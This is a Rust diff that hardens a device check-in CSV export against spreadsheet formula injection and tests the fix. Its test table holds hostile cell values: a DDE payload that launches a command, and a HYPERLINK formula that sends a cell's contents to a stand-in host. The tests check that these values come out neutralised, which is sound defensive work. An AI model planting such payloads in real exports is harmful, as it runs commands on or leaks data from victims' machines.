@@ -196,10 +196,28 @@ pub fn window(total: usize, first: usize, height: usize, overscan: usize) -> Ran
     start..end.max(start)
 }
 
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP's CSV
+/// injection list), with their full-width forms.
+const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
+
+/// A cell as a spreadsheet should read it: one that would start a formula gets a leading `'`
+/// (OWASP's rule), so it stays text. The writer quotes every cell.
+pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
 /// The shown rows as CSV: a header of Graph's property names, then one record per row
-/// (applied policies joined with "; ").
+/// (applied policies joined with "; "). Every cell is quoted, and none starts a formula
+/// ([`neutralised`]): a device named `=HYPERLINK(…)` is text in Excel, not a link.
 pub fn csv(rows: &[CheckinDraft], shown: &[u32]) -> String {
-    let mut writer = ::csv::WriterBuilder::new().terminator(::csv::Terminator::CRLF).from_writer(Vec::new());
+    let mut writer = ::csv::WriterBuilder::new()
+        .terminator(::csv::Terminator::CRLF)
+        .quote_style(::csv::QuoteStyle::Always)
+        .from_writer(Vec::new());
     let _ = writer.write_record(COLUMNS.iter().map(|c| c.property()));
     for &i in shown {
         let row = &rows[i as usize];
@@ -211,6 +229,7 @@ pub fn csv(rows: &[CheckinDraft], shown: &[u32]) -> String {
                 }
                 _ => row.get(*c).to_string(),
             })
+            .map(|cell| neutralised(&cell).into_owned())
             .collect();
         let _ = writer.write_record(&record);
     }
@@ -333,12 +352,50 @@ mod tests {
     fn csv_quotes_as_rfc_4180_says() {
         let text = csv(&rows(), &[1, 0]);
         let lines: Vec<&str> = text.split("\r\n").collect();
-        assert_eq!(lines[0], "userPrincipalName,deviceName,devicePlatform,devicePlatformVersion,wasSuccessful,userId,checkinDateTime,errorMessage,appliedPolicies");
-        assert_eq!(lines[1], "grace@contoso.com,PC-grace@contoso.com,macOS,,false,,2026-11-21T09:00:00Z,\"Policy \"\"X\"\", not applied\",Baseline; Finance");
-        assert!(lines[2].starts_with("ada@contoso.com,"));
+        assert_eq!(lines[0], "\"userPrincipalName\",\"deviceName\",\"devicePlatform\",\"devicePlatformVersion\",\"wasSuccessful\",\"userId\",\"checkinDateTime\",\"errorMessage\",\"appliedPolicies\"");
+        assert_eq!(lines[1], "\"grace@contoso.com\",\"PC-grace@contoso.com\",\"macOS\",\"\",\"false\",\"\",\"2026-11-21T09:00:00Z\",\"Policy \"\"X\"\", not applied\",\"Baseline; Finance\"");
+        assert!(lines[2].starts_with("\"ada@contoso.com\","));
         assert_eq!(lines.len(), 4, "a CRLF after each record");
         let mut reader = ::csv::Reader::from_reader(text.as_bytes());
         let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
         assert_eq!(&records[0][7], "Policy \"X\", not applied", "reads back");
+    }
+
+    #[test]
+    fn no_cell_starts_a_formula() {
+        let table = [
+            ("=HYPERLINK(\"https://x/?\"&A2,\"Open\")", "'=HYPERLINK(\"https://x/?\"&A2,\"Open\")"),
+            ("+1", "'+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tcmd", "'\tcmd"),
+            ("\rcmd", "'\rcmd"),
+            ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
+            ("\u{FF0B}1", "'\u{FF0B}1"),
+            ("\u{FF0D}1", "'\u{FF0D}1"),
+            ("\u{FF20}SUM(A1)", "'\u{FF20}SUM(A1)"),
+            ("PC-01", "PC-01"),
+            ("a=b", "a=b"),
+            ("", ""),
+            ("'quoted", "'quoted"),
+        ];
+        for (cell, expected) in table {
+            assert_eq!(neutralised(cell), expected, "{cell:?}");
+        }
+        let hostile = CheckinDraft::from_status(&CheckinStatus {
+            user_principal_name: Some("=cmd|' /C calc'!A0@contoso.com".into()),
+            device_name: Some("=HYPERLINK(\"https://x/?\"&A2,\"Open\")".into()),
+            ..Default::default()
+        });
+        let text = csv(&[hostile.clone()], &[0]);
+        let record = ::csv::Reader::from_reader(text.as_bytes()).records().next().unwrap().unwrap();
+        assert_eq!(&record[0], "'=cmd|' /C calc'!A0@contoso.com");
+        assert_eq!(&record[1], "'=HYPERLINK(\"https://x/?\"&A2,\"Open\")");
+        assert!(text.lines().nth(1).unwrap().starts_with("\"'=cmd"), "quoted: {text}");
+        assert_eq!(
+            hostile.get(CheckinField::DeviceName),
+            "=HYPERLINK(\"https://x/?\"&A2,\"Open\")",
+            "the row keeps the real text"
+        );
     }
 }
